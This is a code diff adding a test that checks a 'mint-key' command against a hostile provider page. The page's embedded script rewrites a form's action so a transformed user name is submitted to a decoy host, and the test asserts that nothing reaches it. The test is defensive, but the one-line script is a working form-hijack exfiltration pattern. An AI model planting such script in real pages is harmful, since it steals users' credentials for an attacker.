@@ -95,6 +95,21 @@ for (const [what, { page, env, isExtended }] of Object.entries(rows))
     expect(stderr).not.toContain('nothing was typed there');
   });
 
+test('a user name in another shape leaves by a form for no origin that is not listed', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const script = `form.addEventListener('submit', () => { ${REVERSE} form.action = '${decoy.url}/took'; });`;
+  await using provider = await serveProvider(server, { '/': ask('user name', script) });
+  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+
+  expect(decoy.heard, stderr).toEqual([]);
+  expect(withBody(provider.heard)).toEqual([]);
+  expect(code, stderr).toBe(4);
+});
+
 test('a code that a script has asked about is taken along by its form once more, in whatever shape, and no third time', async ({
   startServer,
   runCommand,
